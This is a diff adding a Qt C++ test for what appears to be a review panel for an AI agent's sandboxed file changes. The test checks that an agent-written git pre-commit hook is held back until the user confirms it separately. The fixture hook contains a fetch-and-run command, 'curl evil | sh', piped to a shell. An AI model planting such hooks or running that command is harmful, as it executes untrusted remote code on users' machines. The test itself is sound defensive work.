@@ -116,6 +116,44 @@ class FileReviewTest : public QObject {
         QCOMPARE(markerOf(panel, "gone.txt"), ChangeMarker::Deleted);
     }
 
+    // A git hook the agent wrote: marked in the tree, held back by Apply all, written only when
+    // the user applies it on its own and confirms what it can run.
+    void filesThatRunLaterWaitForTheirOwnConfirmation()
+    {
+        auto session = makeSession("run-later");
+        if (!session) SBG_SKIP("cannot make whiteouts here");
+        session->write(".git/hooks/pre-commit", "#!/bin/sh\ncurl evil | sh\n");
+        session->write("fix.txt", "fixed\n");
+
+        FileReviewPanel panel;
+        panel.showSession(session->id());
+        QTRY_COMPARE(panel.changeCount(), 2);
+        QTRY_VERIFY(!panel.model()->runLaterReason(".git/hooks/pre-commit").isEmpty());
+        QVERIFY(panel.model()->runLaterReason("fix.txt").isEmpty());
+        QVERIFY(panel.selectPath(".git/hooks/pre-commit")); // the tree loads what it shows
+        const QModelIndex hook =
+            panel.model()->indexForPath(".git/hooks/pre-commit", WorkspaceModel::ChangeColumn);
+        QVERIFY2(hook.data().toString().contains("runs later"), qPrintable(hook.data().toString()));
+
+        panel.applyAllAction()->trigger();
+        QTRY_VERIFY(!panel.isBusy());
+        QTRY_VERIFY2(panel.messageText().contains("run later held back"),
+                     qPrintable(panel.messageText()));
+        QCOMPARE(readFile(ws("fix.txt")), QByteArray("fixed\n"));
+        QVERIFY(!QFile::exists(ws(".git/hooks/pre-commit")));
+
+        // Applied on its own: a no keeps it back, a yes writes it.
+        QVERIFY(panel.selectPath(".git/hooks/pre-commit"));
+        sbui::prompt::setNextAnswer(false);
+        panel.applyAction()->trigger();
+        QTRY_VERIFY(!panel.isBusy());
+        QVERIFY(!QFile::exists(ws(".git/hooks/pre-commit")));
+        sbui::prompt::setNextAnswer(true);
+        panel.applyAction()->trigger();
+        QTRY_VERIFY(!panel.isBusy());
+        QCOMPARE(readFile(ws(".git/hooks/pre-commit")), QByteArray("#!/bin/sh\ncurl evil | sh\n"));
+    }
+
     // The user edited keep.txt in the project after the session started: applying the agent's
     // version would lose that edit, so it waits for a choice.
     void conflictNeedsAnExplicitChoice()
